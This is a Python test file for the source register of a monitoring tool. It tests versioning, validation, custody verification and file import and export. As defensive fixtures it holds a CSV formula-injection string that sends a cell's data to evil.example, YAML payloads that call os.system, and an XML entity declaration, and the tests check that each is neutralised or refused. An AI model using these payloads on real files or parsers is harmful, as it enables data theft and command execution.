"""The register of sources: versions, files in and out, and what people decide."""

import json
import sqlite3
from importlib import import_module
from pathlib import Path

import pytest
from conftest import message, write_export
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from marsad.collect import sources as register
from marsad.collect.source_files import FORMS, read_rows
from marsad.errors import BadInput, NotFound
from marsad.model import Source, named
from marsad.preserve import VERIFIED, verify
from marsad.store import Store
from marsad.store.sources import Sources

BY = "person:ليلى"
GIVEN = {
    "origin": "https://t.me/s/salwan_news",
    "collector": "telegram-web",
    "handle": "salwan",
    "legal_basis": "research exemption, file 12",
    "purpose": "study of an invented harbour town",
}


def source(**changes: object) -> Source:
    return named(Source("", "salwan", "https://t.me/s/salwan_news", "telegram-web", **changes))


def test_a_source_is_added_once_and_a_change_is_a_version_that_replaces_it(store):
    first = register.add(store, GIVEN, BY)
    second = register.change(store, "salwan", {"reliability": "B", "every": "30"}, BY)
    assert (second.replaces, second.reliability, second.every) == (first.id, "B", 30)
    assert Sources(store).versions("salwan") == [first, second]
    assert Sources(store).all() == [second]
    assert Sources(store).get("salwan") == second


def test_a_change_that_changes_nothing_adds_no_version(store):
    register.add(store, GIVEN, BY)
    size = store.root()
    assert register.change(store, "salwan", {"every": "60"}, BY).replaces == ""
    assert store.root() == size


def test_paused_and_resumed_are_three_versions(store):
    register.add(store, GIVEN, BY)
    for said in ("true", "false"):
        register.change(store, "salwan", {"paused": said}, BY)
    assert [each.paused for each in Sources(store).versions("salwan")] == [False, True, False]


def test_every_version_is_answered_for_by_the_custody_log_and_verified(store):
    register.add(store, GIVEN, BY)
    register.change(store, "salwan", {"notes": "يُراجع كل شهر"}, BY)
    leaves = [each for each in store.chain() if each.kind == "source"]
    assert [each.author for each in leaves] == [BY, BY]
    store.checkpoint()
    assert verify(store).state == VERIFIED
    with store.transaction() as connection:
        connection.exec_driver_sql("update source set handle = 'another'")
    assert verify(store).state != VERIFIED


NAMED = "select type, name from sqlite_schema where type in ('index', 'table') and sql <> ''"


def test_a_lab_of_the_first_schema_is_upgraded_and_keeps_its_posts(collected):
    lab, posts = collected.lab, list(collected.posts())
    first = sqlite3.connect(":memory:")
    for step in import_module("marsad.store.migrations.versions.0001_first").STEPS:
        first.execute(step)
    there = set(first.execute(NAMED)) | {("table", "alembic_version")}
    with collected.transaction() as connection:
        for kind, name in sorted(map(tuple, connection.exec_driver_sql(NAMED))):
            if (kind, name) not in there and not name.startswith("sqlite_"):
                connection.exec_driver_sql(f"drop {kind} {name}")
        connection.exec_driver_sql("update alembic_version set version_num = '0001'")
    with Store(lab) as store:
        register.add(store, GIVEN, BY)
        assert list(store.posts()) == posts
        assert [each.handle for each in Sources(store).all()] == ["salwan"]


def test_what_is_lacking_is_named_and_keeps_it_from_being_polled():
    assert source().lacking == ("legal_basis", "purpose")
    assert source(legal_basis="  ", purpose="study").lacking == ("legal_basis",)
    assert not source().polled
    assert source(legal_basis="x", purpose="y").polled
    assert not source(legal_basis="x", purpose="y", paused=True).polled


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("reliability", "G", "A to F"),
        ("reliability", "AB", "A to F"),
        ("reliability", "", "A to F"),
        ("priority", 0, "1 .first. to 5"),
        ("every", 0, "minutes"),
        ("standing", "friend", "official"),
        ("outlets", ("a;b",), "semicolon"),
        ("notes", "bell \a", "no text"),
        ("affiliation", "line\nbreak", "no text"),
        ("notes", "x" * 20_001, "longer"),
    ],
)
def test_a_value_that_is_none_of_the_allowed_is_refused(field, value, said):
    with pytest.raises(ValueError, match=said):
        source(**{field: value})


def test_reliability_and_priority_are_kept_apart(store):
    register.add(store, {**GIVEN, "reliability": "E", "priority": "1"}, BY)
    found = Sources(store).get("salwan")
    assert (found.reliability, found.priority) == ("E", 1)


def test_the_same_address_twice_and_the_same_handle_twice_are_refused(store):
    register.add(store, GIVEN, BY)
    with pytest.raises(BadInput, match="polled as 'salwan' already"):
        register.add(store, {**GIVEN, "handle": "other"}, BY)
    with pytest.raises(BadInput, match="choose another handle"):
        register.add(store, {**GIVEN, "origin": "https://t.me/s/other_name"}, BY)
    with pytest.raises(NotFound, match="there are salwan"):
        Sources(store).get("slawan")


def test_a_handle_is_made_of_the_address_in_any_script():
    assert register.handle_of("https://t.me/s/salwan_news") == "t.me-s-salwan_news"
    assert register.handle_of("/data/exports/قناة سلوان/") == "exports-قناة-سلوان"


@pytest.mark.parametrize(
    ("origin", "server"),
    [
        ("https://t.me/s/salwan_news", "t.me"),
        ("t.me/salwan_news", "t.me"),
        ("https://[::1", "c"),
        ("/data/exports", "c"),
        ("./v1.2/exports", "c"),
        ("@salwan_news", "c"),
    ],
)
def test_who_is_asked_is_the_host_else_the_collector(origin, server):
    assert Source("", "h", origin, "c").server == server


LETTERS = st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cn"])
LINES = st.text(LETTERS, max_size=30)
NAMES = LINES.filter(lambda text: text.strip() != "" and "\ufeff" not in text)
WORDS = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cn", "Z"]), min_size=1
).filter(lambda text: not text.startswith("-") and "\ufeff" not in text)
SOURCES = st.builds(
    Source,
    id=st.just(""),
    handle=WORDS.filter(lambda text: len(text) < 60),
    origin=NAMES.map(str.strip),
    collector=st.just("feed"),
    place=LINES,
    outlets=st.lists(
        NAMES.map(str.strip).filter(lambda text: ";" not in text and text), max_size=3
    ).map(tuple),
    affiliation=LINES | st.sampled_from(["=1+1", "'=1+1", "'", "no", "12:30", "null", "~", "- x"]),
    standing=st.sampled_from(["official", "supporter", "unverified"]),
    language=st.sampled_from(["", "ar", "fa", "no"]),
    region=LINES,
    reliability=st.sampled_from("ABCDEF"),
    priority=st.integers(1, 5),
    every=st.integers(1, 525_600),
    legal_basis=LINES,
    purpose=LINES,
    retention=NAMES,
    paused=st.booleans(),
    notes=st.text(LETTERS | st.sampled_from("\n\t"), max_size=60),
    fiction=st.booleans(),
)


@pytest.mark.parametrize(("form", "ending"), [("yaml", "yaml"), ("csv", "csv"), ("opml", "opml")])
@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(made=SOURCES)
def test_what_is_written_to_a_file_comes_back_as_it_was(tmp_path: Path, form, ending, made) -> None:
    path = tmp_path / f"sources.{ending}"
    path.write_text(FORMS[form].write([made]), encoding="utf-8", newline="")
    ((_where, said),) = read_rows(path)
    assert register._made({"id": "", **register._values(said)}) == made


@pytest.mark.parametrize("form", ["yaml", "csv", "opml"])
def test_a_round_trip_through_a_file_changes_nothing(store, tmp_path, form):
    register.add(store, {**GIVEN, "collector": "feed", "notes": "سطر\nسطر", "outlets": "a;b"}, BY)
    register.change(store, "salwan", {"reliability": "C", "affiliation": "=SUM(A1)"}, BY)
    before, size = Sources(store).all(), store.root()
    path = tmp_path / f"register.{form}"
    path.write_text(register.give_out(store, form), encoding="utf-8", newline="")
    done = register.take_in(store, path, BY)
    assert (done.new, done.changed, done.same, done.refused) == (0, 0, 1, ())
    assert (Sources(store).all(), store.root()) == (before, size)
    with Store.create(tmp_path / "other") as other:
        assert register.take_in(other, path, BY).new == 1
        assert register.give_out(other, form) == register.give_out(store, form)


def test_a_formula_is_written_as_text_and_read_back_exactly(store):
    register.add(store, {**GIVEN, "notes": '=HYPERLINK("http://evil.example/?"&A1)'}, BY)
    (line,) = register.give_out(store, "csv").splitlines()[1:]
    assert "'=HYPERLINK" in line
    assert ",=" not in line


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "＝1", "'=1", "''", "'", "'a"])
def test_a_cell_begins_with_no_formula_and_comes_back_exactly(tmp_path, text):
    path = tmp_path / "sources.csv"
    path.write_text(FORMS["csv"].write([source(affiliation=text)]), encoding="utf-8", newline="")
    written = path.read_text(encoding="utf-8").splitlines()[1]
    assert not [cell for cell in written.split(",") if cell.strip('"')[:1] in tuple("=+-@＝")]
    ((_where, said),) = read_rows(path)
    assert said["affiliation"] == text


ROWS = """\
- handle: good
  origin: https://example.org/feed
  collector: feed
  language: no
- handle: bad
  origin: https://example.org/other
  collector: feed
  priority: 9
- just a text
- origin: https://example.org/third
  collector: feed
  color: red
- handle: good
  origin: https://example.org/again
  collector: feed
- handle: also
  origin: https://example.org/feed
  collector: feed
- handle: fine
  origin: https://example.org/fine
  collector: feed
"""


def test_bad_rows_are_refused_with_their_number_and_the_rest_goes_in(store, tmp_path):
    path = tmp_path / "sources.yaml"
    path.write_text(ROWS, encoding="utf-8")
    done = register.take_in(store, path, BY)
    assert [each.handle for each in Sources(store).all()] == ["fine", "good"]
    assert Sources(store).get("good").language == "no"
    reasons = [each.partition(":") for each in done.refused]
    assert [where for where, _, _ in reasons] == [
        "source 2 (line 5)", "source 3 (line 9)", "source 4 (line 10)", "source 5 (line 13)",
        "source 6 (line 16)",
    ]  # fmt: skip
    for said, (_, _, reason) in zip(
        ("priority is 9", "no mapping", "color", "twice", "polled as 'good'"), reasons, strict=True
    ):
        assert said in reason


def test_a_row_with_a_few_columns_changes_those_alone(store, tmp_path):
    register.add(store, {**GIVEN, "notes": "kept"}, BY)
    path = tmp_path / "sources.csv"
    path.write_text("handle,every,region\nsalwan,15,\nsalwan2,1\nx,1,y,z\n", encoding="utf-8")
    done = register.take_in(store, path, BY)
    found = Sources(store).get("salwan")
    assert (found.every, found.notes, found.origin) == (15, "kept", GIVEN["origin"])
    assert (done.changed, len(done.refused)) == (1, 2)
    assert "row 4: 4 cells under 3 columns" in done.refused[1]


def test_another_reader_s_opml_never_overwrites_what_a_person_wrote(store, tmp_path):
    path = tmp_path / "reader.opml"
    path.write_text(
        '<opml version="1.0"><body><outline text="أخبار"><outline type="rss" text="نشرة الميناء" '
        'xmlUrl="https://example.org/feed.xml"/></outline><outline text="empty"/></body></opml>',
        encoding="utf-8",
    )
    assert register.take_in(store, path, BY).new == 1
    (found,) = Sources(store).all()
    assert (found.collector, found.notes) == ("feed", "نشرة الميناء")
    register.change(store, found.handle, {"notes": "checked", "legal_basis": "file 12"}, BY)
    done = register.take_in(store, path, BY)
    (again,) = Sources(store).all()
    assert (done.same, again.notes, again.legal_basis) == (1, "checked", "file 12")


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("a.yaml", "a: &x [1]\nb: *x\n", "aliases"),
        ("b.yaml", "[" * 50 + "]" * 50, "nested"),
        ("c.yaml", "- !!python/object/apply:os.system ['true']\n: [", "not YAML"),
        ("d.yaml", "just text", "no list"),
        ("e.csv", "a,b\n1,2\n", "neither origin nor handle"),
        ("f.csv", 'origin\n"open', "not CSV"),
        ("g.opml", '<!DOCTYPE o [<!ENTITY x "y">]><opml/>', "document type"),
        ("h.opml", "<html/>", "not OPML"),
        ("i.xml", "no xml", "not OPML"),
        ("j.doc", "", "none of .yaml"),
    ],
)
def test_a_file_that_is_not_what_its_name_says_is_named_in_one_sentence(
    store, tmp_path, name, text, said
):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    with pytest.raises(BadInput, match=said):
        register.take_in(store, path, BY)
    assert Sources(store).all() == []


def test_yaml_that_names_python_objects_makes_none(store, tmp_path):
    path = tmp_path / "evil.yaml"
    path.write_text(f"- !!python/object/apply:os.system ['touch {tmp_path}/made']\n")
    assert len(register.take_in(store, path, BY).refused) == 1
    assert not (tmp_path / "made").exists()


def test_the_page_for_review_names_what_is_lacking_and_holds_no_live_link(store):
    register.add(store, {**GIVEN, "legal_basis": "", "notes": "**[x](http://evil.example)**"}, BY)
    register.add(store, {**GIVEN, "handle": "b", "origin": "https://t.me/s/other_town"}, BY)
    page = register.give_out(store, "review")
    assert "lacking (1)" in page
    assert "LACKING" in page
    assert "paused (1)" in page
    assert "http://" not in page
    assert "https://" not in page
    assert "[x](" not in page
    with pytest.raises(BadInput, match="yaml, csv, opml, review"):
        register.give_out(store, "xlsx")


def test_the_commands_add_change_and_print(tmp_path):
    from typer.testing import CliRunner

    from marsad.cli.sources import app

    Store.create(tmp_path / "lab").close()

    def run(*words: str):
        return CliRunner().invoke(app, [str(tmp_path / "lab"), *words], catch_exceptions=True)

    folder = write_export(tmp_path / "export", [message(1, "خبر")]).parent
    added = run("add", str(folder), "handle=town", "--by", "ليلى")
    assert "not polled before it has legal_basis and purpose" in added.output
    assert run("change", "town", "legal_basis=x", "purpose=y", "--by", "ليلى").exit_code == 0
    assert run("pause", "town", "--by", "ليلى").exit_code == 0
    assert "paused" in run("list").output
    assert run("resume", "town", "--by", "ليلى").exit_code == 0
    assert (
        run("mark", "town", "renamed", "--successor", "t.me/new_town", "--by", "x").exit_code == 0
    )
    lines = [json.loads(line) for line in run("show", "town").output.splitlines()]
    assert [line["paused"] for line in lines[:-1]] == [False, False, True, False]
    assert lines[-1]["health"]["successor"] == "t.me/new_town"
    assert isinstance(run("add", "t.me/x", "--by", "").exception, BadInput)
    assert isinstance(run("change", "town", "nonsense", "--by", "x").exception, BadInput)
    text = run("export", "--to", "yaml").output
    (tmp_path / "s.yaml").write_text(text, encoding="utf-8")
    done = json.loads(run("import", str(tmp_path / "s.yaml"), "--by", "x", "--json").output)
    assert (done["new"], done["changed"], done["same"]) == (0, 0, 1)
